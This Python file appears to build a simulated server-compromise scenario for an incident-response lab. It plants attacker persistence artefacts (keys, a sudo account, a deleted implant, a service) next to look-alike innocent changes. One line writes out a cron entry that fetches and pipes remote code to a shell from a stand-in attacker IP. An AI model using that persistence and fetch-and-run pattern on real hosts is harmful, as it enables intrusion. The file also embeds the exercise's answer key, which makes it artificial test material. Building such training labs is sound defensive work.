"""A compromised host: a web server is entered with a key that was stolen from its deployment.

About 20 hours before the lab begins the attacker comes in as ``deploy``, becomes root, makes an account with administrator's
rights, leaves a key in two accounts, a cron line that fetches a program, a crontab entry and a service that start it, and
runs it from a file that is deleted. The pages of the site are replaced. Beside each of these lies something of the client's
own that was changed in the same hours and looks alike.
"""

from __future__ import annotations

import hashlib
from datetime import datetime, timedelta
from typing import Any

from integrations.lab.hosts.state import LabHost
from integrations.lab.scenarios.machines import (
    KEYS,
    make_account,
    make_cron,
    make_key,
    make_process,
    make_unit,
    ordinary_hosts,
)
from integrations.lab.scenarios.stage import Stage
from integrations.lab.state import OFFICE_IP, Tenant
from tenantry.capabilities import HostConnection, HostLogin, HostSession, Update

ATTACKER_IP = "203.0.113.66"
DEPLOY_IP = "198.51.100.20"
HOST = "web1"
IMPLANT = "/dev/shm/.x/kworkerd"  # noqa: S108  # the attacker's choice
NAMES = (HOST, "db1", "mon1", "bastion")


def build(stage: Stage) -> None:
    """Fill the tenant with the story."""
    tenant = stage.tenant
    began = tenant.start - timedelta(hours=20)
    victim = tenant.host or HOST
    others = tuple(name for name in NAMES[1:] if name != victim)
    ordinary_hosts(tenant, victim, *others)
    web = tenant.hosts[victim]
    Intrusion(tenant, web, victim, began).leave()
    story = tenant.story
    story.began_at = began
    story.compromised = [victim]
    story.attacker = {"ips": [ATTACKER_IP]}
    stage.innocent(*own_things(victim, web), *others)


def own_things(name: str, host: LabHost) -> list[str]:
    """What of a host that was broken into is the client's own, as the audit names it."""
    return [
        *(f"{name}/accounts/{account}" for account in ("root", "responder", "deploy", "alice", "www-data")),
        *(f"{name}/keys/{id}" for id, key in host.keys.items() if "attacker" not in key.comment),
        *(f"{name}/cron/{entry.id}" for entry in host.cron.values() if "backup" in entry.command),
        *(f"{name}/units/{unit}" for unit in host.units if unit != "sys-healthd.service"),
        *(f"{name}/processes/{id}" for id, process in host.processes.items() if process.account != "sysupd"),
    ]


class Intrusion:
    """What the attacker did, with what the client did beside it."""

    def __init__(self, tenant: Tenant, host: LabHost, name: str, began: datetime) -> None:
        self._tenant = tenant
        self._host = host
        self._name = name
        self._began = began

    def leave(self) -> None:
        host, began = self._host, self._began
        host.accounts["sysupd"] = make_account("sysupd", 1003, groups=("sudo",), chosen=True)
        for path, account in ((KEYS.format("/root"), "root"), ("/home/sysupd/.ssh/authorized_keys", "sysupd")):
            key = make_key(self._tenant, path, account, "root@attacker", began + timedelta(minutes=12), "attacker")
            host.keys[key.id] = key
        stolen = next(key for key in host.keys.values() if key.account == "deploy")
        own = make_key(
            self._tenant,
            "/home/alice/.ssh/authorized_keys",
            "alice",
            "alice@laptop-new",
            began + timedelta(hours=4),
            "alice",
        )
        host.keys[own.id] = own
        self._started(began)
        self._ran(began)
        self._came(began, stolen.fingerprint)
        host.updates = {"sudo": Update(id="sudo", present="1.9.13p3-1", offered="1.9.13p3-1+deb12u2", security=True)}
        host.put("/var/www/html/index.html", b"<h1>owned</h1>\n", began + timedelta(hours=1))
        host.put("/usr/local/bin/backup.sh", b"#!/bin/sh\nrestic backup /srv\n", began + timedelta(hours=5), 0o755)
        self._story()

    def _started(self, began: datetime) -> None:
        for entry in (
            make_cron(
                "/etc/cron.d/0sync",
                "root",
                "*/5 * * * *",
                f"curl -s http://{ATTACKER_IP}/u | sh",
                began + timedelta(minutes=15),
            ),
            make_cron("/var/spool/cron/crontabs/deploy", "deploy", "@reboot", IMPLANT, began + timedelta(minutes=16)),
            make_cron(
                "/etc/cron.d/backup", "root", "30 2 * * *", "/usr/local/bin/backup.sh", began + timedelta(hours=5)
            ),
        ):
            self._host.cron[entry.id] = entry
        for unit in (
            make_unit("sys-healthd.service", IMPLANT, began + timedelta(minutes=18)),
            make_unit("node-exporter.service", "/opt/node_exporter/node_exporter", began + timedelta(hours=6)),
        ):
            self._host.units[unit.id] = unit

    def _ran(self, began: datetime) -> None:
        host = self._host
        implant = make_process(4711, "sysupd", 1003, IMPLANT, began + timedelta(minutes=20), deleted=True)
        upgraded = make_process(2020, "alice", 1002, "/usr/local/bin/report", began - timedelta(days=9), deleted=True)
        for process in (implant, upgraded):
            host.processes[process.id] = process
        host.images[implant.id] = b"\x7fELF implant"
        host.connections = [
            HostConnection(
                protocol="tcp",
                state="ESTAB",
                local=f"{host.address}:40022",
                remote=ATTACKER_IP,
                remote_port=443,
                pids=(implant.pid,),
            )
        ]
        host.sessions["4690"] = HostSession(
            id="4690", account="sysupd", terminal="pts/0", origin=ATTACKER_IP, since=began + timedelta(hours=19)
        )

    def _came(self, began: datetime, stolen: str) -> None:
        attacker = next(key.fingerprint for key in self._host.keys.values() if "attacker" in key.comment)
        own = next(key.fingerprint for key in self._host.keys.values() if "alice@" in key.comment)
        rows: list[tuple[datetime, str, str, str | None, bool]] = [
            *((began - timedelta(days=day), "deploy", DEPLOY_IP, stolen, True) for day in (9, 6, 3)),
            (began - timedelta(days=5), "alice", OFFICE_IP, None, True),
            *((began - timedelta(minutes=9 - n), "root", ATTACKER_IP, None, False) for n in range(3)),
            (began, "deploy", ATTACKER_IP, stolen, True),
            (began + timedelta(minutes=14), "root", ATTACKER_IP, attacker, True),
            (began + timedelta(hours=5), "alice", OFFICE_IP, own, True),
            (began + timedelta(hours=19), "sysupd", ATTACKER_IP, attacker, True),
        ]
        for number, (at, account, origin, key, success) in enumerate(sorted(rows, key=lambda row: row[0])):
            how = "Accepted" if success else "Failed"
            raw = f"{at.isoformat()} {self._name} sshd[{900 + number}]: {how} for {account} from {origin}"
            self._host.logins.append(
                HostLogin(
                    id=hashlib.sha256(raw.encode()).hexdigest()[:32],
                    at=at,
                    account=account,
                    origin=origin,
                    method="publickey" if key else "password",
                    key=key,
                    success=success,
                    raw=raw,
                )
            )

    def _story(self) -> None:
        artefacts: dict[str, dict[str, Any]] = {
            "account": {"target": f"{self._name}/accounts/sysupd"},
            "unit": {"target": f"{self._name}/units/sys-healthd.service"},
        }
        self._tenant.story.artefacts.update(artefacts)
